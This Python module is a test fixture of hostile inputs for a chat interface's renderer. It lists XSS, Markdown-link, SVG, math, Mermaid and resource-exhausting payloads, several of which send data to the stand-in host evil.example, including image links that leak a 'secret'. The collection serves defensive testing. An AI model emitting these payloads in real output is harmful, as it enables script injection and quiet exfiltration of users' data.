"""Hostile texts for everything that shows untrusted text: Markdown, HTML, SVG, math, diagrams, links, titles.

A payload that runs calls ``pwned()``, sets ``window.pwned`` or asks a host under ``evil.example``. None may happen.
Written for LocalMind; the classes are those of public advisories on chat products.
"""

from __future__ import annotations

from typing import Final

_JS: Final = "window.pwned=1"

HTML: Final = [
    f"<script>{_JS}</script>",
    f"<SCRIPT SRC=https://evil.example/x.js></SCRIPT>{_JS}",
    f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    f"<script\n>{_JS}</script\n>",
    f"</script><script>{_JS}</script>",
    f"<img src=x onerror={_JS}>",
    f'<img src="https://evil.example/i.png" onload="{_JS}">',
    f"<img src=1 href=1 onerror='{_JS}'></img>",
    f"<image/src/onerror={_JS}>",
    f"<body onload={_JS}>",
    f"<body onpageshow={_JS}>",
    f"<div onpointerenter={_JS} style='position:fixed;inset:0'>x</div>",
    f"<details open ontoggle={_JS}><summary>x</summary></details>",
    f"<input autofocus onfocus={_JS}>",
    f"<select autofocus onfocus={_JS}><option>1</select>",
    f"<textarea autofocus onfocus={_JS}></textarea>",
    f"<video><source onerror={_JS}></video>",
    f"<video src=https://evil.example/v.mp4 autoplay onplay={_JS}></video>",
    f"<audio src=x onerror={_JS}></audio>",
    f"<marquee onstart={_JS}>x</marquee>",
    f"<a href=javascript:{_JS}>click</a>",
    f"<a href='java&#115;cript:{_JS}'>click</a>",
    f"<a href='java\tscript:{_JS}'>click</a>",
    f"<form action=javascript:{_JS}><button>go</button></form>",
    f"<form id=f></form><button form=f formaction=javascript:{_JS}>go</button>",
    "<form action=https://evil.example/steal><input name=password></form>",
    f"<iframe srcdoc='<script>parent.{_JS}</script>'></iframe>",
    f"<iframe src=javascript:{_JS}></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    f"<object data=javascript:{_JS}></object>",
    "<object data=https://evil.example/x.swf></object>",
    f"<embed src=javascript:{_JS}>",
    "<embed src=https://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_JS}'>",
    "<base href=https://evil.example/><a href=x>x</a>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/b)}</style>",
    "<div style='background:url(https://evil.example/b)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9999;background:red'>Session expired</div>",
    f"<template><script>{_JS}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_JS}>'></noscript>",
    f"<table background=https://evil.example/t><tr><td onclick={_JS}>x</table>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_JS}>",
    f"<xss id=x tabindex=1 onfocus={_JS}></xss>",
    f"<!--><img src=x onerror={_JS}>-->",
    f"<![CDATA[><script>{_JS}</script>]]>",
    f"<?php echo 1 ?><img src=x onerror={_JS}>",
    "<input type=image src=https://evil.example/i formaction=https://evil.example/>",
    "<a ping=https://evil.example/p href=https://evil.example/>x</a>",
    "<button popovertarget=x>x</button><div popover id=x>y</div>",
    "<p id=root>clobber</p><p id=localStorage>clobber</p>",
    f"<div>\n\n<img src=x onerror={_JS}>\n\n</div>",
]

SVG: Final = [
    f"<svg onload={_JS}>",
    f"<svg><script>{_JS}</script></svg>",
    f"<svg><animate onbegin={_JS} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_JS}><text>x</text></a></svg>",
    "<svg><image href=https://evil.example/i></image></svg>",
    "<svg><use href='https://evil.example/s.svg#x'></use></svg>",
    f"<svg><foreignObject><img src=x onerror={_JS}></foreignObject></svg>",
    f"<svg><set attributeName=onmouseover to={_JS}></svg>",
    f"![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_JS}'/>)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd25lZD0xIi8+)",
]

LINKS: Final = [
    f"[x](javascript:{_JS})",
    f"[x](JaVaScRiPt:{_JS})",
    f"[x](javascript&colon;{_JS})",
    f"[x](javascript&#58;{_JS})",
    f"[x](&#106;avascript:{_JS})",
    f"[x](java%0ascript:{_JS})",
    f"[x](<java\tscript:{_JS}>)",
    f"[x]( javascript:{_JS})",
    f"[x](\x01javascript:{_JS})",
    f"[x](vbscript:{_JS})",
    f"[x](data:text/html,<script>{_JS}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](/api/auth/sign-out)",
    "[x](../../settings)",
    f"<javascript:{_JS}>",
    f"[x][1]\n\n[1]: javascript:{_JS}",
    f"[x]\n\n[x]: javascript:{_JS}",
    f"[a](https://ok.example 'title\" onmouseover=\"{_JS}')",
    f'[a](https://ok.example/"onclick="{_JS})',
    f"[<img src=x onerror={_JS}>](https://ok.example)",
    f"[![x](javascript:{_JS})](javascript:{_JS})",
    "[https://bank.example](https://evil.example)",
    "[x](https://bank.example@evil.example/)",
    "[x](tel:+1900)",
    "[x](ms-settings:privacy)",
    "[x](intent://evil.example#Intent;scheme=http;end)",
    f"www.evil.example/?<script>{_JS}</script>",
    f"Footnote[^1]\n\n[^1]: <img src=x onerror={_JS}> [x](javascript:{_JS})",
]

IMAGES: Final = [
    "![secret](https://evil.example/?q=secret)",
    "![secret][r]\n\n[r]: https://evil.example/?q=secret",
    "![](http://evil.example/pixel.gif)",
    "![](//evil.example/pixel.gif)",
    f'![x](x" onerror="{_JS})',
    f'![" onerror="{_JS}](https://evil.example/i.png)',
    f"![x](javascript:{_JS})",
    "![x](/api/auth/sign-out)",
    "- ![a](https://evil.example/1)\n  - ![b](https://evil.example/2)",
    "| ![a](https://evil.example/1) | b |\n|---|---|\n| c | ![d](https://evil.example/2) |",
]

CODE: Final = [
    f"```html\n<script>{_JS}</script>\n```",
    f'```"><img src=x onerror={_JS}>\nx\n```',
    f"```js onload={_JS}\nlet a\n```",
    f"`<img src=x onerror={_JS}>`",
    f"```html\n<img src=x onerror={_JS}>",
    f"~~~xml\n<svg onload={_JS}>\n~~~",
    "```__proto__\nx\n```",
    "```constructor\nx\n```",
]

MATH: Final = [
    f"$\\href{{javascript:{_JS}}}{{x}}$",
    f"$\\url{{javascript:{_JS}}}$",
    "$\\includegraphics{https://evil.example/i.png}$",
    f"$\\htmlData{{x=1}}{{y}}\\htmlClass{{a}}{{b}}\\htmlStyle{{position:fixed}}{{c}}$ {_JS}",
    f"$\\htmlId{{root}}{{<script>{_JS}</script>}}$",
    f"$$\n\\text{{<img src=x onerror={_JS}>}}\n$$",
    "$\\def\\a{\\a\\a}\\a$",
    "$\\def\\x#1{#1#1#1}\\x{\\x{\\x{\\x{\\x{\\x{\\x{a}}}}}}}$",
    "$\\rule{9999em}{9999em}$",
    "$\\kern999em\\raisebox{999em}{x}$",
    "$" + "{" * 300 + "}" * 300 + "$",
    f"\\[ \\unicode{{<script>{_JS}</script>}} \\]",
]

MERMAID: Final = [
    f"```mermaid\ngraph TD\nA[<img src=x onerror={_JS}>]-->B\n```",
    f'```mermaid\ngraph TD\nA["<script>{_JS}</script>"]-->B\n```',
    f'```mermaid\ngraph TD\nA-->B\nclick A "javascript:{_JS}"\n```',
    f'```mermaid\ngraph TD\nA-->B\nclick A call pwned()\nclick B href "javascript:{_JS}"\n```',
    "```mermaid\n%%{init: {'securityLevel': 'loose', 'htmlLabels': true} }%%\n"
    f'graph TD\nA["<b onclick={_JS}>x</b>"]-->B\n```',
    '```mermaid\n%%{init: {"themeCSS": "*{background:url(https://evil.example/c)}"}}%%\ngraph TD\nA-->B\n```',
    f'```mermaid\n---\nconfig:\n  securityLevel: loose\n---\ngraph TD\nA["<img src=x onerror={_JS}>"]-->B\n```',
    "```mermaid\ngraph TD\nA-->B\nstyle A fill:url(https://evil.example/f)\n```",
    '```mermaid\nflowchart TD\nA@{ img: "https://evil.example/i.png", label: "x" }\n```',
    f'```mermaid\nsequenceDiagram\nA->>B: <script>{_JS}</script>\nlinks A: {{"x": "javascript:{_JS}"}}\n```',
    f'```mermaid\nclassDiagram\nclass A["<svg onload={_JS}>"]\nlink A "javascript:{_JS}"\n```',
    f"```mermaid\nstateDiagram-v2\n[*] --> s\ns: <iframe srcdoc='<script>{_JS}</script>'>\n```",
    f'```mermaid\npie title <img src=x onerror={_JS}>\n"a" : 1\n```',
    '```mermaid\ngraph TD\nA["#lt;img src=x onerror=window.pwned=1#gt;"]-->B\n```',
    '```mermaid\ngantt\ntitle x\nsection s\na :a1, 2020-01-01, 30d\nclick a1 href "javascript:window.pwned=1"\n```',
    "```mermaid\nnot a diagram at all <<<\n```",
    '```mermaid\ngraph TD\nA["$$\\href{javascript:window.pwned=1}{x}$$"]-->B\n```',
]

EXHAUSTING: Final = [
    "> " * 3000 + "x",
    "- " * 2000 + "x",
    "[" * 5000 + "x",
    "*" * 5000 + "x" + "*" * 4999,
    "`" * 4001 + "x" + "`" * 3999,
    "![" * 2000 + "](x" * 2000,
    "|" + "a|" * 2000 + "\n|" + "-|" * 2000,
    "a_" * 5000,
    "<" * 5000,
    "\u202e txt.exe \u202d" * 50,
    "\u0000\u0001\ufeff\ud7ff",
    "#" * 1000 + " x",
]

TITLES: Final = [
    f'"><img src=x onerror={_JS}>',
    f"'-{_JS}-'",
    f"{{{{{_JS}}}}}",
    f"${{{_JS}}}",
    "</title><script>window.pwned=1</script>",
    "__proto__",
]

PAYLOADS: Final = [*HTML, *SVG, *LINKS, *IMAGES, *CODE, *MATH, *MERMAID, *EXHAUSTING, *TITLES]
